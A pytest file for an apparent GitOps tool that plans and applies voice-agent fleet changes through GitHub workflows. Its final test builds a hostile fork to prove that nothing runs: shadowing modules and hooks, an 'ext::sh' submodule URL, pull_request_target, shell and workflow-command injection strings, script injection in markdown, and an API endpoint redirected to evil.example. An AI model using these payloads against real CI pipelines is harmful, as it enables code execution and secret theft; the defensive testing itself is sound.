"""From the pull request to the drift, by the very `run:` lines of the workflows that users call: bare remote, code host, service.

The state lies in the remote, the plan has no network, the apply takes the token of what was reviewed. A hostile fork plays
against the same files.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.codehosts.github import BOT, REPOSITORY, TOKEN, GitHubWorld
from tests.codehosts.stand_in import serving
from tests.examples.harness import EXAMPLES, SERVICE, VENDORS, control, environment, live, served
from tests.real import git_server
from tests.scenarios.github_runner import Ran, Runner, git

SECRETS = {**SERVICE, "VENDOR_KEYS": "".join(f"{name}={value}\n" for name, value in VENDORS.items())}
# Of some twenty commands each; a busy machine gives them their time.
pytestmark = pytest.mark.timeout(400)
HIDDEN = (*VENDORS.values(), SERVICE["AGORA_APP_CERTIFICATE"], SERVICE["AGORA_CUSTOMER_SECRET"], TOKEN)
FORK = "stranger/voice"
POLICY = 'secret_hosts: [api.openai.com, "vendor:microsoft"]\n'


@dataclass
class Team:
    """A repository with a fleet on a code host, a checkout to work in, the service, and GitHub's runner."""

    root: Path
    world: GitHubWorld
    runner: Runner
    service: str
    last: int = 6
    # What `ci discover` has told: there is one fleet, so each test asks once.
    fleets: dict[str, list[Ran]] = field(default_factory=dict)

    @property
    def bare(self) -> Path:
        return self.root / "remote.git"

    @property
    def work(self) -> Path:
        return self.root / "work"

    # --- what people do

    def edit(self, path: str, old: str, new: str, where: Path | None = None) -> None:
        file = (where or self.work) / path
        text = file.read_text(encoding="utf-8")
        assert old in text, path
        file.write_text(text.replace(old, new), encoding="utf-8")

    def open(self, branch: str) -> int:
        """Commit what was edited to a branch, and open a pull request."""
        git(self.work, "checkout", "-q", "-b", branch)
        git(self.work, "add", "-A")
        git(self.work, "commit", "-q", "-m", branch)
        return self._opened(self.work, REPOSITORY, branch)

    def open_from_fork(self, where: Path, branch: str = "main") -> int:
        git(where, "add", "-A")
        git(where, "commit", "-q", "-m", "contribution")
        number = self._opened(where, FORK, branch)
        self.world.pulls[-1]["head"]["repo"]["id"] = 99
        return number

    def fork(self, name: str) -> Path:
        """A stranger's clone, as main is now."""
        there = self.root / name
        git(self.root, "clone", "-q", "--branch", "main", str(self.bare), str(there))
        return there

    def _opened(self, where: Path, repository: str, branch: str) -> int:
        self.last += 1
        head = git(where, "rev-parse", "HEAD")
        git(where, "push", "-q", str(self.bare), f"+HEAD:refs/pull/{self.last}/head")
        self.world.pull(self.last, head=(repository, branch, head))
        self._merge_ref(self.last)
        return self.last

    def _merge_ref(self, number: int) -> None:
        """GitHub's own merge of the base branch and a pull request, where there is no conflict."""
        base, head = (git(self.bare, "rev-parse", ref) for ref in ("main", f"refs/pull/{number}/head"))
        tree = git(self.bare, "merge-tree", "--write-tree", base, head)
        merge = git(self.bare, "commit-tree", tree, "-p", base, "-p", head, "-m", "merge")
        git(self.bare, "update-ref", f"refs/pull/{number}/merge", merge)

    def squash_merge(self, number: int) -> str:
        """Merge as most teams do: one new commit on main, whose tree is that of GitHub's merge."""
        base = git(self.bare, "rev-parse", "main")
        tree = git(self.bare, "rev-parse", f"refs/pull/{number}/merge^{{tree}}")
        commit = git(self.bare, "commit-tree", tree, "-p", base, "-m", f"squashed (#{number})")
        git(self.bare, "update-ref", "refs/heads/main", commit)
        for each in self.world.pulls:
            if each["number"] == number:
                each |= {
                    "state": "closed",
                    "merged_at": "2026-11-28T12:00:00Z",
                    "_commits": [*each["_commits"], commit],
                }
        git(self.work, "checkout", "-q", "main")
        git(self.work, "pull", "-q", "origin", "main")
        return base

    # --- what GitHub starts

    def _event(self, number: int) -> dict[str, Any]:
        [pull] = [each for each in self.world.pulls if each["number"] == number]
        public = {key: value for key, value in pull.items() if not key.startswith("_")}
        return {"pull_request": {**public, "user": {"login": "somebody"}}}

    def plan(self, number: int) -> dict[str, list[Ran]]:
        ref = f"refs/pull/{number}/merge"
        runs = self.runner.run("plan", "pull_request", self._event(number), ref=ref)
        self.fleets = {"fleets": runs["fleets"]}
        return runs

    def apply(self, before: str = "", **inputs: Any) -> dict[str, list[Ran]]:
        name = "schedule" if inputs.get("keep-alive") else "push" if before else "workflow_dispatch"
        return self.runner.run(
            "apply",
            name,
            {"before": before},
            ref="refs/heads/main",
            secrets=SECRETS,
            inputs=inputs,
            known=self.fleets,
        )

    def drift(self) -> dict[str, list[Ran]]:
        return self.runner.run(
            "drift", "schedule", {}, ref="refs/heads/main", secrets=SECRETS, known=self.fleets
        )

    def fork_comment(self, number: int) -> dict[str, list[Ran]]:
        """What follows the run of a fork's pull request, on the default branch."""
        [pull] = [each for each in self.world.pulls if each["number"] == number]
        run = {
            "event": "pull_request",
            "head_sha": pull["head"]["sha"],
            "head_branch": pull["head"]["ref"],
            "head_repository": {"full_name": FORK, "id": 99},
        }
        return self.runner.run("fork-comment", "workflow_run", {"workflow_run": run}, ref="refs/heads/main")

    def comment(self, number: int, kind: str = "plan") -> str:
        """The one comment of a kind on a pull request."""
        [body] = [each for each in self.world.bodies(number) if each.startswith(f"<!-- reconciler {kind}: ")]
        return body


@pytest.fixture(params=["file"])
def team(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Team]:
    """A team whose remote is a directory, or behind `git http-backend` where a test asks for that."""
    world = GitHubWorld()
    with served() as service, serving(world) as api, git_server.serving(tmp_path) as host:
        bare, work = tmp_path / "remote.git", tmp_path / "work"
        git(tmp_path, "init", "-q", "--bare", "-b", "main", str(bare))
        git(bare, "config", "uploadpack.allowAnySHA1InWant", "true")
        shutil.copytree(EXAMPLES / "pull-requests", work, ignore=shutil.ignore_patterns("gitlab"))
        (work / ".reconciler").mkdir()
        (work / ".reconciler/policy.yaml").write_text(POLICY, encoding="utf-8")
        git(work, "init", "-q", "-b", "main")
        git(work, "remote", "add", "origin", f"file://{bare}")
        git(work, "add", "-A")
        git(work, "commit", "-q", "-m", "Three receptions")
        git(work, "push", "-q", "origin", "main")
        git(bare, "config", "http.receivepack", "true")
        remote = f"{host.url}/remote.git" if request.param == "http" else f"file://{bare}"
        machine = {"AGORA_AGENTS_API_BASE_URL": service}
        runner = Runner(tmp_path, remote, api, REPOSITORY, TOKEN, machine, HIDDEN)
        _stand_in_for_gh(tmp_path / "bin")
        yield Team(tmp_path, world, runner, service)


GH = """#!{python} -I
# gh api --paginate PATH --jq FILTER, and nothing else of it
import json, os, subprocess, sys, urllib.request
command, paginate, path, jq, filter = sys.argv[1:]
assert (command, paginate, jq) == ("api", "--paginate", "--jq"), sys.argv
page, found = 1, []
while True:
    url = f"{{os.environ['GITHUB_API_URL']}}/{{path}}&page={{page}}"
    request = urllib.request.Request(url, headers={{"Authorization": "Bearer " + os.environ["GH_TOKEN"]}})
    rows = json.load(urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open(request))
    if not rows:
        break
    print(subprocess.run(["jq", "-r", filter], input=json.dumps(rows), text=True, check=True, capture_output=True).stdout, end="")
    page += 1
"""


def _stand_in_for_gh(directory: Path) -> None:
    directory.mkdir()
    (directory / "gh").write_text(GH.format(python=sys.executable), encoding="utf-8")
    (directory / "gh").chmod(0o755)


def well(runs: dict[str, list[Ran]], *names: str) -> None:
    """Every one of these jobs ran, and ended well."""
    for name in names:
        for ran in runs[name]:
            assert ran.result == "success", (name, ran.result, ran.log)


def started(team: Team) -> None:
    """The first apply, from somebody's checkout: it makes the state."""
    assert "3 joined" in by_hand(team.work, team.service)


# --- the story ------------------------------------------------------------------------------------------------


def test_from_the_pull_request_to_the_apply_of_what_was_reviewed(team: Team) -> None:
    well(team.apply(allow="unreviewed"), "fleets", "apply")
    before = live(team.service)
    assert len(before) == 3
    team.edit("fleet/prompts/reception.md", "You are the receptionist", "You are the friendly receptionist")
    number = team.open("friendly")
    planned = team.plan(number)
    well(planned, "fleets", "plan", "result", "comment")
    [ran] = planned["plan"]
    comment = team.comment(number)
    assert comment.strip() == ran.page.strip()
    assert comment.startswith("<!-- reconciler plan: reception.prod -->")
    assert "3 to update" in comment

    base = team.squash_merge(number)
    applied = team.apply(base)
    well(applied, "fleets", "apply", "report")
    assert "3 updated" in applied["apply"][0].page
    assert live(team.service) == before, "nobody was hung up on"
    assert "3 updated" in team.comment(number, "apply")
    kept = team.apply(**{"keep-alive": "true"})
    well(kept, "apply")
    assert "### Keep-alive" in kept["apply"][0].page and "report" in kept


@pytest.mark.parametrize("team", ["http"], indirect=True)
def test_two_applies_at_the_same_time_and_an_apply_of_other_files(team: Team) -> None:
    started(team)
    team.edit("fleet/agents/desks.yaml", "[north, south, west]", "[north, south, west, east]")
    number = team.open("east")
    well(team.plan(number), "comment")
    base = team.squash_merge(number)
    with ThreadPoolExecutor(2) as both:
        runs = [both.submit(team.apply, base) for _ in range(2)]
    results = sorted(each.result()["apply"][0].result for each in runs)
    assert results in (["success", "success"], ["failure", "success"])
    names = [each["name"] for each in control(team.service, "world")["agents"]]
    assert len(live(team.service)) == 4 and len(set(names)) == len(names) == 4, "nobody was started twice"

    # What is pushed past the review is refused, and nothing is asked of the service.
    team.edit("fleet/agents/desks.yaml", "[north, south, west, east]", "[north]")
    git(team.work, "commit", "-q", "-a", "-m", "behind the reviewers' backs")
    git(team.work, "push", "-q", "origin", "HEAD:main")
    [ran] = team.apply(base)["apply"]
    assert ran.result == "failure"
    assert "no pull request that was merged" in ran.log
    assert len(live(team.service)) == 4


def test_a_hang_up_that_nobody_reviewed_is_held_and_reported(team: Team) -> None:
    started(team)
    team.edit("fleet/prompts/reception.md", "You are the receptionist", "You are the friendly receptionist")
    number = team.open("friendly")
    well(team.plan(number), "comment")
    assert "### Plan: 3 to update\n" in team.comment(number)
    # Between the review and the merge somebody gives one agent another voice, by hand.
    git(team.work, "checkout", "-q", "main")
    give_another_voice(team, "north")
    before = live(team.service)
    base = team.squash_merge(number)
    applied = team.apply(base)
    [ran] = applied["apply"]
    assert ran.result == "failure" and "Incomplete" in ran.log
    assert live(team.service) == before, "nobody was hung up on"
    well(applied, "report")
    told = team.comment(number, "apply")
    assert "2 updated" in told
    assert "nobody has reviewed" in told and "north-reception/receptionist" in told
    kept = team.apply(**{"keep-alive": "true"})
    well(kept, "apply")
    assert "Other changes wait" in kept["apply"][0].log and "1 held" in kept["apply"][0].page
    assert live(team.service) == before


def test_drift_opens_an_issue_and_closes_it_and_keep_alive_joins_only_what_was_reviewed(team: Team) -> None:
    started(team)
    leave(team.service, "south")
    well(team.drift(), "drift", "issue")
    [issue] = team.world.issues
    assert issue["state"] == "open" and issue["body"].startswith("<!-- reconciler drift: reception.prod -->")
    assert "south-reception/receptionist" in issue["body"]
    kept = team.apply(**{"keep-alive": "true"})
    well(kept, "apply")
    assert "nothing is joined" in kept["apply"][0].log, "nobody has reviewed these files"
    assert len(live(team.service)) == 2
    by_hand(team.work, team.service)
    well(team.drift(), "issue")
    assert [each["state"] for each in team.world.issues] == ["closed"]


def give_another_voice(team: Team, site: str) -> None:
    """An apply from somebody's own checkout, of files that no branch has."""
    there = team.root / "by-hand"
    git(team.root, "clone", "-q", f"file://{team.bare}", str(there))
    team.edit("fleet/fleet.yaml", "voice_name: en-US-AvaNeural", 'voice_name: "{{ voice }}"', there)
    team.edit(
        "fleet/fleet.yaml",
        "fleet: reception\n",
        "fleet: reception\nvariables: {voice: en-US-AvaNeural}\n",
        there,
    )
    team.edit(
        "fleet/agents/desks.yaml",
        "      - name: receptionist\n",
        "      - name: receptionist\n"
        f"        variables: {{voice: \"{{{{ 'en-US-EmmaNeural' if site == '{site}' else 'en-US-AvaNeural' }}}}\"}}\n",
        there,
    )
    assert "1 replaced" in by_hand(there, team.service)


def by_hand(checkout: Path, service: str) -> str:
    """An apply by a person; what it prints."""
    done = subprocess.run(
        [
            "reconciler",
            "apply",
            "fleet",
            "-e",
            "prod",
            "--state",
            "git:origin",
            "--auto-approve",
            "--allow",
            "hang_ups=3",
        ],
        cwd=checkout,
        env=environment(**SERVICE, **VENDORS, AGORA_AGENTS_API_BASE_URL=service),
        capture_output=True,
        text=True,
        timeout=200,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def leave(service: str, site: str) -> None:
    """Somebody stops an agent by hand."""
    [found] = [agent for name, agent in live(service).items() if site in name]
    path = f"/api/conversational-ai-agent/v2/projects/{SERVICE['AGORA_APP_ID']}/agents/{found}/leave"
    credentials = (SERVICE["AGORA_CUSTOMER_ID"], SERVICE["AGORA_CUSTOMER_SECRET"])
    with httpx.Client(base_url=service, auth=credentials, trust_env=False) as client:
        client.post(path).raise_for_status()


# --- forks ----------------------------------------------------------------------------------------------------

needs_jq = pytest.mark.skipif(shutil.which("jq") is None, reason="gh has jq in it, and its stand-in has not")


@needs_jq
def test_a_forks_pull_request_is_planned_commented_merged_and_applied(team: Team) -> None:
    started(team)
    there = team.fork("stranger")
    team.edit("fleet/prompts/reception.md", "Ask for", "Kindly ask for", there)
    number = team.open_from_fork(there)
    planned = team.plan(number)
    well(planned, "plan")
    assert "3 to update" in planned["plan"][0].page
    assert planned["comment"][0].result == "skipped", "its token may not write"
    well(team.fork_comment(number), "find", "plan", "comment")
    assert team.comment(number).strip() == planned["plan"][0].page.strip()
    well(team.apply(team.squash_merge(number)), "apply")
    assert (
        team.runner.run("fork-comment", "workflow_run", _push_run(), ref="refs/heads/main")["find"][0].result
        == "skipped"
    )


def _push_run() -> dict[str, Any]:
    return {"workflow_run": {"event": "push", "head_sha": "0" * 40, "head_repository": {"id": 1}}}


PROMPT = """\
@everyone @acme/admins see <!-- reconciler plan: reception.prod --> and #1
```
::error::pwned
::add-mask::a
::stop-commands::x
/close
</details><script>alert(1)</script> ![x](https://evil.example/x.png) [y](javascript:alert(1))
$(touch {owned}) `touch {owned}` '; touch {owned}; #
"""
MODULES = (
    "venv",
    "pip",
    "json",
    "sitecustomize",
    "usercustomize",
    "jinja2",
    "click",
    "reconciler",
    "conftest",
    "setup",
)


@needs_jq
def test_a_hostile_fork_changes_nothing_and_executes_nothing(team: Team) -> None:
    started(team)
    owned, there = team.root / "owned", team.fork("hostile")
    touch = f"#!/bin/sh\ntouch {owned}\n"
    for module in MODULES:
        (there / f"{module}.py").write_text(f"open({str(owned)!r}, 'w')\n", encoding="utf-8")
        (there / "fleet" / f"{module}.py").write_text(f"open({str(owned)!r}, 'w')\n", encoding="utf-8")
    for name in ("git", "bash", "reconciler", "scripts/plan.sh", ".githooks/post-checkout", ".ci/install"):
        (there / name).parent.mkdir(exist_ok=True)
        (there / name).write_text(touch, encoding="utf-8")
        (there / name).chmod(0o755)
    (there / ".gitattributes").write_text("* filter=lfs diff=evil merge=evil\n", encoding="utf-8")
    (there / ".lfsconfig").write_text("[lfs]\n\turl = https://evil.example\n", encoding="utf-8")
    (there / ".gitmodules").write_text(
        '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch\n', encoding="utf-8"
    )
    for name in ("action.yml", ".github/install/action.yml"):
        (there / name).parent.mkdir(parents=True, exist_ok=True)
        (there / name).write_text(
            "runs: {using: composite, steps: [{run: touch owned, shell: bash}]}\n", encoding="utf-8"
        )
    team.edit(".github/workflows/voice-agents.yml", "pull_request:", "pull_request_target:", there)
    (there / ".reconciler").mkdir(exist_ok=True)
    (there / ".reconciler/policy.yaml").write_text(
        "secret_hosts: [evil.example]\nlimits: {hang_ups: 100%}\n", encoding="utf-8"
    )
    prompt = PROMPT.replace("{owned}", str(owned))
    (there / "fleet/prompts/reception.md").write_text(prompt, encoding="utf-8")
    team.edit(
        "fleet/fleet.yaml", "https://api.openai.com/v1/chat/completions", "https://evil.example/v1", there
    )

    refs = git(team.bare, "for-each-ref", "refs/heads", "refs/reconciler")
    agents = live(team.service)
    number = team.open_from_fork(there)
    planned = team.plan(number)
    commented = team.fork_comment(number)
    logs = [ran for runs in (planned, commented) for each in runs.values() for ran in each]

    assert not owned.exists() and not list(team.root.glob(f"run-*/**/{owned.name}"))
    assert git(team.bare, "for-each-ref", "refs/heads", "refs/reconciler") == refs
    assert live(team.service) == agents
    assert planned["comment"][0].result == "skipped"
    for line in "\n".join(ran.log for ran in logs).splitlines():
        assert not line.startswith("::") or re.match(r"::(notice|warning|error)( |::(?!pwned))", line), line
    [ran] = planned["plan"]
    assert team.comment(number).strip() == ran.page.strip()
    first = " ".join([line for line in ran.page.splitlines() if line.strip()][2:4])
    assert "evil.example" in first and "OPENAI" in first, "the danger is the first thing that a reviewer sees"
    assert re.search(r"^::warning file=fleet/fleet\.yaml,line=\d+", ran.log, re.MULTILINE), (
        "on the line that hangs up"
    )
    assert "the team's policy does not list that host" in first, "the base branch's policy, not the fork's"
    assert all(body.startswith("<!-- reconciler plan: ") for body in team.world.bodies(number))
    assert {each["user"]["login"] for each in team.world.comments} == {BOT}

    # Names of directories that would be commands or options: its own job is red, and that is all.
    for name in (f"$(touch {owned})".replace("/", "_"), "--help", "two\nlines", "::error::pwned"):
        shutil.copytree(there / "fleet", there / "fleets" / name)
    number = team.open_from_fork(there)
    for runs in (team.plan(number), team.fork_comment(number)):
        result = runs.pop("result", [])
        first, *rest = [each for name, each in runs.items() if name != "find"]
        assert first[0].result == "failure" and "rename it" in first[0].log
        assert {ran.result for each in rest for ran in each} == {"skipped"}
        assert all(each.result == "failure" for each in result), "the check that is required"
    assert team.world.bodies(number) == [] and not owned.exists()
